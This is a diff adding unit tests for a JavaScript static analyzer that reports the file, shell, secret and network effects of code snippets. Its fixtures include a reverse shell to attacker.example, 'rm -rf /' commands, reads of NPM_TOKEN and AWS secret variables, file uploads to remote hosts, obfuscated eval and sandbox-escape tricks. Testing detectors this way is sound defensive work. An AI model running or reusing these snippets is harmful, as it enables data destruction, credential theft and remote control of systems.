@@ -1,0 +1,146 @@
+import assert from 'node:assert/strict';
+import test from 'node:test';
+import { describeReading } from './testing/describe-reading.ts';
+
+test('understands code that only computes and prints', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ['process.versions', 'ok'],
+    ["console.log([1, 2, 3].map(x => x * 2).join(','))", 'ok'],
+    ['console.log(`a${1 + 1}`)', 'ok'],
+    ['function f(a) { return a + 1 } console.log(f(1))', 'ok'],
+    ["let s='';process.stdin.on('data',d=>s+=d).on('end',()=>console.log(JSON.parse(s).version))", 'ok'],
+    ["process.stdin.on('data', d => process.stdout.write(d))", 'ok'],
+    ["console.log(require('os').cpus().length)", 'ok'],
+    ["const path = require('path'); console.log(path.join('a', 'b'))", 'ok'],
+    ["process.exit(+process.version.slice(1).split('.')[0] >= 18 ? 0 : 1)", 'ok'],
+    ['console.log(Math.max(...[1, 2]), new Date().toISOString())', 'ok'],
+    ["console.log('a b'.replace(/\\s+/g, '-'), 6 / 2 / 1)", 'ok'],
+    ['new Promise(r => setTimeout(r, 100)).then(() => console.log(1))', 'ok'],
+    ["const o = { a: 1, b: () => 2 }; console.log(o.b(), o['a'])", 'ok'],
+    ['class A { constructor2() { return 1 } go(x) { return x } } console.log(new A().go(1))', 'ok'],
+    ["console.log(require('crypto').randomBytes(16).toString('hex'))", 'ok'],
+    ['(function () { console.log(1) })()', 'ok'],
+    ["const { join, sep: s } = require('path'); console.log(join('a', s))", 'ok'],
+    ['if (/a"b/.test(\'x\')) console.log("y")', 'ok'],
+    ['console.log(process.env.HOME)', 'ok'],
+    ["import { createHash } from 'node:crypto'; console.log(createHash('md5').update('a').digest('hex'))", 'ok'],
+    ['for (const [k, v] of Object.entries({ a: 1 })) console.log(k, v)', 'ok'],
+    ["console.log(String.fromCharCode(97, 98), Buffer.from('YQ==', 'base64').toString())", 'ok'],
+  ];
+  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
+});
+
+test('notes files that are read, written, deleted and run', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ["require('./package.json').version", 'ok read=./package.json'],
+    [
+      "const fs = require('fs'); fs.writeFileSync('/etc/x', 'a'); fs.rmSync('dist', { recursive: true })",
+      'ok write=/etc/x delete-tree=dist',
+    ],
+    ["import fs from 'fs'; fs.unlinkSync('a')", 'ok delete=a'],
+    ["import * as f from 'node:fs/promises'; await f.rm('a')", 'ok delete=a'],
+    ["import { writeFile as w } from 'fs/promises'; await w('a', 'b')", 'ok write=a'],
+    [
+      "const p = require('fs'); const j = JSON.parse(p.readFileSync('package.json', 'utf8')); j.v = 1; p.writeFileSync('package.json', JSON.stringify(j))",
+      'ok read=package.json write=package.json',
+    ],
+    ["fs.readdirSync('.').forEach(f => fs.unlinkSync(f))", 'ok read=. delete=?'],
+    ["const n = 'a' + '.txt'; require('fs').renameSync(n, `b.txt`)", 'ok delete=a.txt write=b.txt'],
+    ["var a = require('fs'); a['unlink' + 'Sync']('z')", 'ok delete=z'],
+    ["import('fs').then(fs => fs.rmSync('x'))", 'no delete=x'],
+    ["console.log(require('./build/x.js').name)", 'ok script=./build/x.js'],
+    ["import '@scope/package'", 'ok script=node_modules/@scope/package'],
+    ["require('rimraf').sync('/')", 'no script=node_modules/rimraf'],
+    ["Deno.removeSync('a', { recursive: true })", 'ok delete-tree=a'],
+    [
+      "console.log(process.env.NPM_TOKEN, process.env['AWS_SECRET_ACCESS_KEY'])",
+      'ok secret=NPM_TOKEN secret=AWS_SECRET_ACCESS_KEY',
+    ],
+    ['console.log(process.env)', 'ok secret=?'],
+    ["p = '/tmp/x'; [p] = ['/etc/passwd']; fs.writeFileSync(p, 'x')", 'ok write=?'],
+    ["(p => fs.writeFileSync(p, 'x'))('/etc/passwd'); p = '/tmp/x'", 'ok write=?'],
+  ];
+  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
+});
+
+test('notes commands however they are run', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ["require('child_process').execSync('rm -rf /')", 'ok shell=rm -rf /'],
+    ["const { execSync: e } = require('child_process'); e('id')", 'ok shell=id'],
+    ["require('child_' + 'process').exec('ls')", 'ok shell=ls'],
+    ["const cp = require('node:child_process'); cp.spawn('git', ['log', '-p', 'a b'])", "ok shell=git log -p 'a b'"],
+    ["child_process.execFileSync('rm', ['-rf', '/'])", 'ok shell=rm -rf /'],
+    ["import { exec } from 'child_process'; exec(`id`)", 'ok shell=id'],
+    ["import cp, { spawn as s } from 'child_process'; s('id')", 'ok shell=id'],
+    ["require('child_process').execSync(Buffer.from('aWQ=', 'base64').toString())", 'ok shell=id'],
+    ["require('child_process').exec(process.argv[2])", 'ok shell=?'],
+    ["require('child_process').spawn('ls', [], { shell: '/tmp/x' })", 'no shell=ls'],
+    [
+      'sh = require("child_process").spawn("/bin/sh"); require("net").connect(12345, "attacker.example", function () { this.pipe(sh.stdin); })',
+      'no shell=/bin/sh connect=attacker.example',
+    ],
+  ];
+  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
+});
+
+test('looks into code that the code makes', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ["eval(\"require('fs').unlinkSync('x')\")", 'ok delete=x'],
+    ["eval(Buffer.from('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCJ4Iik=', 'base64').toString())", 'ok delete=x'],
+    ["eval(atob('MSsx'))", 'ok'],
+    ["new Function('return 1')()", 'no'],
+    ['eval(process.argv[1])', 'no opaque=?'],
+    ['vm.runInNewContext("1+1")', 'ok'],
+  ];
+  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
+});
+
+test('notes the network', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ["fetch('http://a.example').then(r => r.text()).then(console.log)", 'ok fetch=http://a.example'],
+    ["fetch('http://a.example', { method: 'POST', body: 'x' })", 'ok upload=http://a.example'],
+    ["require('https').get('https://a.example/x', r => r.pipe(process.stdout))", 'no fetch=https://a.example/x'],
+    [
+      'require("fs").createReadStream("/k").pipe(require("http").request("http://a.example/x"))',
+      'no read=/k upload=http://a.example/x',
+    ],
+    ["new WebSocket('ws://a.example')", 'ok connect=ws://a.example'],
+  ];
+  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
+});
+
+test('does not understand what leads out of plain data', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ["[].constructor.constructor('return process')()", 'no'],
+    ['[]["filter"]["constructor"]("x")()', 'no'],
+    ["global.process.mainModule.require('child_process').exec('id')", 'no'],
+    ['this.constructor', 'no'],
+    ['(() => this)().process', 'no'],
+    ["['ls'].map(require('child_process').execSync)", 'no'],
+    ["fetch('http://a.example').then(r => r.text()).then(eval)", 'no fetch=http://a.example'],
+    ['if (1) /"/.test(x); evil() ; "/"', 'no'],
+    ['f`x`', 'no'],
+    ["const f = []['filter'][k][k]; f('code')", 'no'],
+    ["\\u0065val('1')", 'no'],
+    ["process.binding('spawn_sync')", 'no opaque=?'],
+    ["Reflect.get(process, 'binding')", 'no'],
+    ['console.log = eval', 'no'],
+    ['const { eval: e } = globalThis', 'no'],
+    ["setTimeout('code')", 'no'],
+    ['x = 1 <!-- y', 'no'],
+    ['import(name)', 'no opaque=?'],
+    ["import('./evil.js')", 'ok script=./evil.js'],
+    ["(await import('child_process')).execSync('id')", 'ok shell=id'],
+    ["class A { static f = require('child_process').execSync }; A.f('id')", 'no'],
+    ["var e = require('child_process').execSync; this.e('id')", 'no'],
+    ["const f = console.log[k]; const g = f('code'); [1].map(g)", 'no'],
+    ["(f = require('fs').unlinkSync) => f('x')", 'no delete=x'],
+    ["const o = { f: () => 1 }; class B { static f = require('fs').unlinkSync }; B.f('x')", 'no'],
+    ["Object.assign({}, require('fs')).unlinkSync('x')", 'no delete=x'],
+    ["process[k]('x')", 'no'],
+    ["undefinedFunction('x')", 'no'],
+    ["process.getBuiltinModule('child_process').execSync('id')", 'no shell=id'],
+    ["require('module')._load('child_process')", 'no opaque=?'],
+  ];
+  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
+});
